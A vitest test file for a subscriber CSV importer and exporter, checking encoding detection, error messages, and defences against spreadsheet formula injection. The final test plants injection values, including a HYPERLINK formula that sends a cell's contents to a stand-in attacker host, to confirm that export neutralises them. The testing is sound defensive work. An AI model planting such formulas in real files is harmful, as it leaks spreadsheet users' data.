import iconv from 'iconv-lite';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { makeSite, type Site } from '../helpers/site.js';

/** Subscriber CSV as spreadsheets write it, through the real `tidings subscribers import` and `export`. */
describe('subscriber CSV as Excel users write it', () => {
  let site: Site;
  beforeEach(async () => {
    site = await makeSite();
  });
  afterEach(async () => {
    await site.cleanup();
  });

  const names = async () => {
    const r = await site.run('subscribers', 'list', '--json');
    return (JSON.parse(r.out) as { email: string; name: string }[]).map((s) => `${s.email} ${s.name}`);
  };
  const ACCENTED = 'email,name\nrene@example.org,René Müller\nzoe@example.org,Zoë Ñúñez – “quoted”\n';

  it('reads a Windows-1252 file as such, says so, and stores the accented names', async () => {
    await site.write('people.csv', iconv.encode(ACCENTED, 'win1252'));
    const r = await site.run('subscribers', 'import', 'people.csv');
    expect(r).toMatchObject({ code: 0, err: '' });
    expect(r.out).toBe('read people.csv as Windows-1252\nimported people.csv: new 2, updated 0, unchanged 0, kept suppressed 0, rejected 0\n');
    expect(await names()).toEqual(['rene@example.org René Müller', 'zoe@example.org Zoë Ñúñez – “quoted”']);
  });

  it.each([
    ['UTF-16LE', Buffer.concat([Buffer.from([0xff, 0xfe]), iconv.encode(ACCENTED, 'utf16le')])],
    ['UTF-16BE', Buffer.concat([Buffer.from([0xfe, 0xff]), iconv.encode(ACCENTED, 'utf16be')])],
  ])('reads %s with a byte order mark', async (encoding, bytes) => {
    await site.write('people.csv', bytes);
    const r = await site.run('subscribers', 'import', 'people.csv');
    expect(r).toMatchObject({ code: 0, err: '' });
    expect(r.out.split('\n')[0]).toBe(`read people.csv as ${encoding}`);
    expect(await names()).toEqual(['rene@example.org René Müller', 'zoe@example.org Zoë Ñúñez – “quoted”']);
  });

  it('reads UTF-8 with or without a byte order mark without a word about it', async () => {
    await site.write('bom.csv', Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(ACCENTED)]));
    const r = await site.run('subscribers', 'import', 'bom.csv');
    expect(r).toMatchObject({ code: 0, err: '', out: 'imported bom.csv: new 2, updated 0, unchanged 0, kept suppressed 0, rejected 0\n' });
    await site.write('plain.csv', 'email,name\nann@example.org,Ann Ó Briain\n');
    expect((await site.run('subscribers', 'import', 'plain.csv')).out).toBe('imported plain.csv: new 1, updated 0, unchanged 0, kept suppressed 0, rejected 0\n');
    expect(await names()).toEqual(['rene@example.org René Müller', 'zoe@example.org Zoë Ñúñez – “quoted”', 'ann@example.org Ann Ó Briain']);
  });

  it('never stores U+FFFD: a UTF-8 file with a Windows-1252 line names that line, exit 2, the other lines land', async () => {
    const bytes = Buffer.concat([
      Buffer.from('email,name\nrene@example.org,René\n'),
      iconv.encode('zoe@example.org,Zoë\n', 'win1252'),
      Buffer.from('ann@example.org,Ann\n'),
    ]);
    await site.write('mixed.csv', bytes);
    const r = await site.run('subscribers', 'import', 'mixed.csv');
    expect(r.code).toBe(2);
    expect(r.err).toContain('mixed.csv:3: error: this line holds bytes that are not UTF-8 (read as U+FFFD) (save the file as "CSV UTF-8" and import it again)\n');
    expect(await names()).toEqual(['rene@example.org René', 'ann@example.org Ann']);
  });

  it('refuses UTF-16 without a byte order mark, naming the file', async () => {
    await site.write('people.csv', iconv.encode(ACCENTED, 'utf16le'));
    const r = await site.run('subscribers', 'import', 'people.csv');
    expect(r.code).toBe(2);
    expect(r.err).toBe('tidings: people.csv:1: the file holds NUL bytes and no byte order mark (UTF-16 without a mark?) (save the file as "CSV UTF-8" and import it again)\n');
    expect(await names()).toEqual([]);
  });

  it('keeps the rows after a stray quote: the bad line is named, bob and cat land', async () => {
    await site.write('stray.csv', 'email,name\n"ann@x.org,Ann\nbob@x.org,Bob\ncat@x.org,"Cat"\n');
    const r = await site.run('subscribers', 'import', 'stray.csv');
    expect(r.code).toBe(2);
    expect(r.out).toBe('imported stray.csv: new 2, updated 0, unchanged 0, kept suppressed 0, rejected 1\n');
    expect(r.err.split('\n')[0]).toBe(
      'stray.csv:2: error: a quoted field is not closed on its line (remove the stray quote, or close it and write a quote inside a quoted field as "")',
    );
    expect(await names()).toEqual(['bob@x.org Bob', 'cat@x.org Cat']);
  });

  it('exports formula names planted through a name field as text, and imports them back exactly', async () => {
    const planted = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', '+1-555-0100', '-2+3', '@SUM(A1:A9)', "'=already quoted", 'Ann = Lee'];
    for (const [i, name] of planted.entries()) expect((await site.run('subscribers', 'add', `p${i}@example.org`, '--name', name)).code).toBe(0);
    expect((await site.run('subscribers', 'add', '--name', 'Dash', '--', '-dash@example.org')).code).toBe(0);
    const out = await site.run('subscribers', 'export');
    expect(out.out).toBe(
      [
        'email,name,themes,status',
        `p0@example.org,"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",,active`,
        "p1@example.org,'+1-555-0100,,active",
        "p2@example.org,'-2+3,,active",
        "p3@example.org,'@SUM(A1:A9),,active",
        "p4@example.org,''=already quoted,,active",
        'p5@example.org,Ann = Lee,,active',
        "'-dash@example.org,Dash,,active",
        '',
      ].join('\n'),
    );
    for (const line of out.out.split('\n').slice(1)) for (const cell of line.split(',')) expect(cell).not.toMatch(/^"?[=+\-@\t\r]/);

    const again = await makeSite();
    try {
      await again.write('export.csv', out.out);
      expect((await again.run('subscribers', 'import', 'export.csv')).code).toBe(0);
      const r = await again.run('subscribers', 'list', '--json');
      const restored = (JSON.parse(r.out) as { email: string; name: string }[]).map((s) => [s.email, s.name]);
      expect(restored).toEqual([...planted.map((name, i) => [`p${i}@example.org`, name]), ['-dash@example.org', 'Dash']]);
    } finally {
      await again.cleanup();
    }
  });
});
